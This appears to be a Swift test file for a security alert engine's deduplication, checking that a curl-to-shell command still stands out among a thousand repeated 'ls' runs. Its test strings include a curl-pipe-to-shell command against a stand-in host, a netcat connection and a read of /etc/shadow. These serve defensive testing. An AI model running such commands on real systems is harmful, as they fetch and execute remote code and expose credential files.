// SPDX-License-Identifier: Apache-2.0
import AlertEngine
import AlertModel
import Testing

@Suite struct VariantTests {
    private func words(_ commands: [String], priority: Priority = .warning) -> [String] {
        var bench = Bench()
        return commands.enumerated().map { index, command in
            bench.admit(
                .at(Double(index)).with {
                    $0.command = command
                    $0.priority = priority
                }
            ).word
        }
    }

    @Test(arguments: [
        ["sleep 12345", "sleep 99999999"], ["cat /x/deadbeef01", "cat /x/0123456789abcdef"],
        ["ls /tmp/tmp.aB3dE9fG1h", "ls /tmp/tmp.zZ9yY8xX7w"], ["ls /tmp/build-x1Y2z3", "ls /tmp/build-q9W8e7"],
        ["python /var/tmp/tmpab12cd34", "python /var/tmp/tmpzz99yy88"],
    ])
    func `what is another at every run is masked`(commands: [String]) {
        #expect(words(commands) == ["first", "repeated"])
    }

    @Test(arguments: [
        ["sleep 1234", "sleep 4321"], ["nc 10.0.0.1 80", "nc 10.0.0.2 80"], ["ls /tmp/evil", "ls /tmp/good"],
        ["sh /tmp/run.install", "sh /tmp/run.payload"], ["bash -c ls", "bash -c \"curl http://x | sh\""],
        ["a12345", "b12345"],
    ])
    func `what tells commands apart stays`(commands: [String]) {
        #expect(words(commands) == ["first", "variant"])
    }

    @Test func `a thousand times ls does not hide one curl to a shell`() {
        let commands = Array(repeating: "bash -c ls", count: 1_000) + ["bash -c \"curl http://x | sh\""]
        #expect(words(commands).last == "variant")
    }

    @Test func `Critical and above leave with every new variant`() {
        let commands = (0 ..< 30).map { "sh -c \($0)" }
        #expect(words(commands, priority: .critical) == ["first"] + Array(repeating: "variant", count: 29))
        #expect(words(commands).filter { $0 == "repeated" }.count == 22)
    }

    @Test func `another ancestor is another variant`() {
        var bench = Bench()
        let words = ["sshd", "cron", "sshd"].enumerated().map { index, name in
            bench.admit(.at(Double(index)).with { $0.fields["proc.aname[3]"] = name }).word
        }
        #expect(words == ["first", "variant", "repeated"])
    }

    @Test func `beyond the limit an update lists the new command lines, at most once a minute, and none is left out`() {
        var bench = Bench(DeduplicateSettings(variants: 1))
        for second in 0 ..< 300 {
            bench.admit(.at(Double(second)).with { $0.command = "sh -c \(second % 60) 123456" })
            bench.advance(to: Double(second) - 2)
        }
        bench.end()
        let listing = bench.summaries.filter { !$0.newVariants.isEmpty }
        let listed = listing.flatMap(\.newVariants)
        #expect(listed == (1 ..< 60).map { "sh -c \($0) *" })
        #expect(listing.first?.newVariants == ["sh -c 1 *"] && listing.first?.variants == 2)
        #expect(bench.closes.map(\.variants) == [60] && bench.closes.map(\.total) == [300])
    }

    @Test func `where the key has no file, the file that makes a variant is listed`() {
        var bench = Bench(DeduplicateSettings(variants: 1, parts: [KeyPart("rule")]))
        for (second, file) in ["/etc/passwd", "/etc/shadow", "/etc/passwd"].enumerated() {
            bench.admit(
                .at(Double(second)).with {
                    $0.command = "cat"
                    $0.fields["fd.name"] = file
                })
        }
        bench.end()
        #expect(bench.summaries.flatMap(\.newVariants) == ["cat /etc/shadow"])
    }

    @Test func `an attacker who makes up command lines is counted in full and does not get the table of others`() {
        var bench = Bench(DeduplicateSettings(memoryBytes: 1 << 20))
        for part in 0 ..< 60 {
            bench.admit(
                (0 ..< 100).map { index in
                    SampleAlert.at(Double(part)).with { $0.command = "x \(part) \(index % 100)" }
                })
        }
        bench.admit([.at(60).with { $0.rule = "other" }, .at(61).with { $0.rule = "other" }])
        bench.end()
        #expect(bench.closes.map(\.total).sorted() == [2, 6_000])
        #expect(bench.closes.map(\.suppressed).sorted() == [1, 5_992])
        #expect(bench.closes.map(\.variants).max() == 6_000)
    }
}
